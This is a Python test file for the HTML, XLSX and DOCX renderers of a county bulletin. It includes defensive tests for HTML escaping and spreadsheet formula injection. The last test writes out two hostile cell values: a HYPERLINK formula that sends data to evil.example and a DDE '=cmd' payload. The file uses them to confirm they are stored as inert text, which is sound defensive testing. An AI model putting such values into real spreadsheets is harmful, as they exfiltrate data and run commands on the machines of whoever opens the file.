"""The three documents carry the figures: HTML text, the workbook read back with openpyxl, the DOCX with python-docx."""
from __future__ import annotations

import io
from decimal import Decimal

from docx import Document
from openpyxl import load_workbook

from services.escalation.bulletin.render_docx import render_docx
from services.escalation.bulletin.render_html import render_html
from services.escalation.bulletin.render_xlsx import render_xlsx
from services.escalation.bulletin.sections import sections

from .test_bulletin_figures import figures


def test_html_has_title_headline_and_every_section() -> None:
    f = figures()
    html = render_html(f, revision=2)
    assert f.title in html and "第 2 版" in html
    assert f"{f.start_rate.percent}%" in html and f"{f.start_forecast.percent}%" in html
    for section in sections(f):
        assert section.title in html
    assert "<td>项目p04</td>" in html and ">121<" in html  # the idle parcel and its days


def test_html_escapes_names() -> None:
    f = figures()
    from dataclasses import replace

    html = render_html(replace(f, county_name="<script>西湖区"))
    assert "<script>西湖区" not in html and "&lt;script&gt;西湖区" in html


def test_xlsx_has_one_sheet_per_section_and_numbers_as_numbers() -> None:
    f = figures()
    book = load_workbook(io.BytesIO(render_xlsx(f)))
    assert len(book.sheetnames) == len(sections(f))
    rates = book[book.sheetnames[1]]
    start = next(row for row in rates.iter_rows(min_row=3, values_only=True) if row[0] == "开工率")
    assert start[1:4] == (f.start_rate.planned, f.start_rate.done, Decimal(f.start_rate.percent))
    assert isinstance(start[1], int) and isinstance(start[3], int | float)
    money = book[book.sheetnames[2]]
    plan_wan, ytd_wan = list(money.iter_rows(min_row=3, max_row=3, values_only=True))[0][:2]
    assert (plan_wan, ytd_wan) == (f.investment.annual_plan_fen / 1_000_000, f.investment.ytd_fen / 1_000_000)
    idle = book[book.sheetnames[4]]
    assert [row[4] for row in idle.iter_rows(min_row=3, values_only=True)] == [121]


def test_docx_has_the_figures_in_its_tables() -> None:
    f = figures()
    document = Document(io.BytesIO(render_docx(f)))
    text = "\n".join(p.text for p in document.paragraphs)
    assert f.title in text and f"开工率：{f.start_rate.percent}%" in text
    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    assert {f.start_rate.percent, f.letters.percent, "项目p04", "121", "自然资源局"} <= cells
    assert len(document.tables) == sum(1 for s in sections(f) if s.rows)


def test_xlsx_writes_county_text_that_looks_like_a_formula_as_text() -> None:
    from dataclasses import replace

    f = figures()
    injected = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    parcels = (replace(f.idle_parcels[0], name=injected, parcel="=cmd|' /C calc'!A0"), *f.idle_parcels[1:])
    book = load_workbook(io.BytesIO(render_xlsx(replace(f, idle_parcels=parcels))))
    idle = book[book.sheetnames[4]]
    cells = list(idle.iter_rows(min_row=3, max_row=3))[0]
    assert (cells[0].value, cells[0].data_type) == (injected, "s")
    assert (cells[1].value, cells[1].data_type) == ("=cmd|' /C calc'!A0", "s")
    assert (cells[4].value, cells[4].data_type) == (121, "n")  # numbers stay numbers
